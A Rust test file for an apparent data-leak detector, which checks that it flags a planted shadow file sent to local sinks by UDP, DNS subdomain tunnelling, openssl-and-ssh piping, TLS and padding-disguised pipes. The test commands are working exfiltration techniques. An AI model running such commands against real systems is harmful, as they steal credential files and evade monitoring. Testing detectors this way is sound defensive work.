//! More ways by which a sensitive file leaves (issue 4, items 1 and 2): in datagrams, in questions to a resolver, through
//! ciphers and pipes, over connections that are much older or younger than the reading.

use counterfoil_tests::leak::{SHADOW, chain, configured, exe, in_python, leaking, leaks, left, with_secret};
use counterfoil_tests::observed::listening;
use counterfoil_tests::plant::Service;
use counterfoil_tests::sink::Sink;
use counterfoil_tests::sshd::Sshd;
use counterfoil_tests::{Run, Scratch, check, need, need_sshd, peers};
use std::io::{BufRead, BufReader};
use std::net::UdpSocket;
use std::process::{Command, Stdio};

/// Somebody who takes datagrams and says nothing.
fn datagrams() -> (UdpSocket, u16) {
    let socket = UdpSocket::bind(("127.0.0.1", 0)).expect("bind");
    let port = socket.local_addr().expect("address").port();
    (socket, port)
}

/// Each says where it goes, or the socket does once: as it is, and encoded as in the questions of a resolver.
#[test]
fn in_datagrams() {
    need!("/usr/bin/python3");
    let (_socket, port) = datagrams();
    let to = format!("(\"127.0.0.1\", {port})");
    for (before, send) in [
        (format!("s.connect({to})"), "s.send(X)".to_owned()),
        ("pass".into(), format!("s.sendto(X, {to})")),
        ("pass".into(), format!("s.sendmsg([X], [], 0, {to})")),
    ] {
        for (content, confidence) in [("d", "proven"), ("base64.b64encode(d)[:60]", "correlated")] {
            let run = leaking(&in_python(&format!(
                "import socket, base64; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); {before}; d=open(\"secret/shadow\",\"rb\").read(); {}",
                send.replace('X', content)
            )));
            let alarm = left(&run, "python3", confidence);
            let remote = format!("127.0.0.1:{port}");
            check!(run, alarm.0["connection"]["remote"] == remote.as_str(), "{}", alarm.0["connection"]);
        }
    }
}

/// Two destinations over one socket: each is told.
#[test]
fn in_datagrams_to_several() {
    need!("/usr/bin/python3");
    let ((_one, first), (_two, second)) = (datagrams(), datagrams());
    let run = leaking(&in_python(&format!(
        "import socket, base64; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d=open(\"secret/shadow\",\"rb\").read(); \
         [s.sendto(base64.b64encode(d[i:i+40]), (\"127.0.0.1\", p)) for i in range(0, 200, 40) for p in ({first}, {second})]"
    )));
    let mut told: Vec<String> =
        leaks(&run).iter().filter_map(|a| Some(a.0["connection"]["remote"].as_str()?.to_owned())).collect();
    told.sort();
    let mut meant = [first, second].map(|port| format!("127.0.0.1:{port}"));
    meant.sort();
    check!(run, told == meant, "{told:?}");
}

/// By netcat, whose socket is connected.
#[test]
fn by_netcat_over_udp() {
    need!("nc");
    let (_socket, port) = datagrams();
    let run = leaking(&format!("nc -u -w 1 -N 127.0.0.1 {port} <secret/shadow"));
    left(&run, "nc", "proven");
}

#[test]
fn in_names_that_a_resolver_is_asked_for() {
    need!("dig", "base64", "fold", "/usr/bin/python3");
    let port = peers::free_port();
    let server = Command::new(peers::PYTHON)
        .args([peers::script("dns_sink.py"), port.to_string()])
        .env_remove("LD_PRELOAD")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn();
    let mut server = Service(server.expect("dns_sink"));
    let mut said = String::new();
    BufReader::new(server.0.stdout.take().expect("piped")).read_line(&mut said).expect("dns_sink");
    assert_eq!(said, "listening\n");
    let run = leaking(&format!(
        "for piece in $(base64 -w0 secret/shadow | fold -w 50); do dig +time=5 +tries=1 @127.0.0.1 -p {port} $piece.example.test >>answers; done; grep -c NXDOMAIN answers"
    ));
    let alarm = left(&run, "dig", "correlated");
    let remote = format!("127.0.0.1:{port}");
    check!(run, alarm.0["connection"]["remote"] == remote.as_str(), "{}", alarm.0["connection"]);
    let chain = chain(&alarm);
    check!(
        run,
        chain.first().is_some_and(|p| p == "base64") && chain.last().is_some_and(|p| p == "dig"),
        "{chain:?}"
    );
}

#[test]
fn encrypted_by_openssl_and_sent_by_ssh() {
    need_sshd!();
    need!("openssl");
    let scratch = Scratch::new();
    let script = Sshd::new(&scratch).around(
        "openssl des3 -pbkdf2 -pass pass:x -in secret/shadow | ssh far \"cat >$here/got\"; test -s got",
    );
    let run = with_secret(scratch, &script).limit(120).go().well();
    let alarm = left(&run, "ssh", "correlated");
    assert_eq!(chain(&alarm), ["openssl", "ssh"]);
}

/// Python's own TLS, to somebody unobserved.
#[test]
fn by_pythons_ssl() {
    need!("/usr/bin/python3", "openssl");
    let scratch = Scratch::new();
    peers::certificate(&scratch);
    let port = peers::free_port();
    let accept = format!("127.0.0.1:{port}");
    let words =
        ["s_server", "-accept", &accept, "-cert", "cert.pem", "-key", "key.pem", "-quiet", "-naccept", "1"];
    let server = Command::new("openssl")
        .args(words)
        .current_dir(scratch.path())
        .env_remove("LD_PRELOAD")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn();
    let _server = Service(server.expect("openssl"));
    let code = format!(
        "import socket, ssl; c=ssl.create_default_context(cafile=\"cert.pem\"); s=c.wrap_socket(socket.create_connection((\"127.0.0.1\",{port})), server_hostname=\"localhost\"); \
         d=open(\"secret/shadow\",\"rb\").read(); s.sendall(b\"x\" + d); s.unwrap() if 0 else s.close()"
    );
    let run = with_secret(scratch, &format!("listening {port}\n{}", in_python(&code))).go().well();
    let alarm = left(&run, "python3", "proven");
    check!(run, alarm.0["connection"]["server_name"] == "localhost", "{}", alarm.0["connection"]);
}

fn with_window(window: &str, code: &str) -> Run {
    let sink = Sink::start();
    let commands = in_python(&format!("import socket, time, base64; {code}"));
    configured(Scratch::new(), &format!("time_window = \"{window}\""), &commands)
        .env("P", sink.port().to_string())
        .limit(400)
        .go()
        .well()
}

/// The connection is older than the window when the file is read.
#[test]
fn over_a_connection_that_was_there_long_before() {
    need!("/usr/bin/python3");
    let older = |wait: u32, what: &str| {
        format!(
            "s=socket.create_connection((\"127.0.0.1\",$P)); s.sendall(b\"hello\\\\n\"); time.sleep({wait}); d=open(\"secret/shadow\",\"rb\").read(); s.sendall({what})"
        )
    };
    left(&with_window("1s", &older(3, "b\"x\"+d")), "python3", "proven");
    left(&with_window("1s", &older(3, "base64.b64encode(d)")), "python3", "correlated");
    // What is sent longer after the reading than that is only known by its content.
    let later = |what: &str| {
        format!(
            "s=socket.create_connection((\"127.0.0.1\",$P)); d=open(\"secret/shadow\",\"rb\").read(); time.sleep(3); s.sendall({what})"
        )
    };
    let run = with_window("1s", &later("base64.b64encode(d)"));
    let said = leaks(&run);
    check!(run, said.is_empty(), "{:?}", said.iter().map(exe).collect::<Vec<_>>());
    left(&with_window("1s", &later("d")), "python3", "proven");
}

/// With the window as it is by default, and minutes between.
#[test]
#[ignore = "takes minutes: make test-long"]
fn over_a_connection_that_was_there_minutes_before() {
    need!("/usr/bin/python3");
    for (what, confidence) in [("b\"x\"+d", "proven"), ("base64.b64encode(d)", "correlated")] {
        let run = with_window(
            "60s",
            &format!(
                "s=socket.create_connection((\"127.0.0.1\",$P)); s.sendall(b\"hello\\\\n\"); time.sleep(150); d=open(\"secret/shadow\",\"rb\").read(); s.sendall({what})"
            ),
        );
        left(&run, "python3", confidence);
    }
}

/// Padding and secret come from other processes through one pipe; by stdio, that passes no hook; by a shell's own
/// words; twice through pipes; over TLS, on a connection that is old by then.
#[test]
fn behind_padding_that_comes_through_a_pipe() {
    need!("nc", "head", "cat", "bash");
    for commands in [
        "(head -c 131072 /dev/urandom; cat secret/shadow) | nc -N 127.0.0.1 $P",
        "(head -c 300000 /dev/urandom; head -n 9 secret/shadow; head -c 300000 /dev/urandom) | nc -N 127.0.0.1 $P",
        "(head -c 300000 /dev/urandom; cat secret/shadow) | cat | cat | nc -N 127.0.0.1 $P",
        "{ head -c 200000 /dev/urandom; while read -r line; do echo \"$line\"; done <secret/shadow; } | nc -N 127.0.0.1 $P",
        "mkfifo way; nc -N 127.0.0.1 $P <way & exec 9>way; head -c 200000 /dev/urandom >&9; cat secret/shadow >&9; exec 9>&-; wait",
    ] {
        let run = leaking(commands);
        let alarm = left(&run, "nc", "proven");
        let seen = alarm.0["why"]["value"].as_u64().unwrap_or(0);
        check!(
            run,
            seen as usize + 80 >= SHADOW.len(),
            "{commands}: {seen} bytes of it: {}",
            alarm.0["evidence"]
        );
    }
}

#[test]
fn behind_padding_through_a_pipe_and_tls() {
    need!("openssl", "head", "cat");
    let scratch = Scratch::new();
    peers::certificate(&scratch);
    let port = peers::free_port();
    let commands = format!(
        "mkfifo hold\nopenssl s_server -accept 127.0.0.1:{port} -cert cert.pem -key key.pem -quiet -naccept 1 <hold >got & server=$!\n\
         exec 9>hold\n{}\n\
         (head -c 400000 /dev/urandom; cat secret/shadow) | openssl s_client -connect 127.0.0.1:{port} -quiet -no_ign_eof -nocommands >/dev/null 2>&1 || true\n\
         wait $server || true",
        listening(port)
    );
    let run = with_secret(scratch, &commands).limit(120).go().well();
    left(&run, "openssl", "proven");
}
